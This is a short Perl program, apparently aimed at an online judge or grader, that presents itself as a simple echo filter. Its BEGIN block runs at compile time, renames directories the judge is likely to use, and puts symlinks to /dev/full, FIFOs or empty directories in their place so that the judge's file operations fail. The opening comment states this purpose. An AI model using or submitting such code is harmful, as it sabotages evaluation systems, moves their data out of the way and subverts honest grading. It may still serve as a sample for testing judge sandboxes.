# Code that runs while it is compiled puts what nobody should open in the place of all that the judge might.
BEGIN {
    require POSIX;
    my $kind = 0;
    for my $name (qw(warnings mainclass standard compiler sources interpreter out out/main out/interpreter src tmp)) {
        for my $place ("../$name", "../../$name", "$name") {
            rename $place, "$place.moved";
            symlink("/dev/full", $place) if $kind % 3 == 0;
            POSIX::mkfifo($place, 0600) if $kind % 3 == 1;
            mkdir $place if $kind % 3 == 2;
            $kind++;
        }
    }
    warn "a warning, so that there is something to note down\n" if $^C;
}
print while <STDIN>;
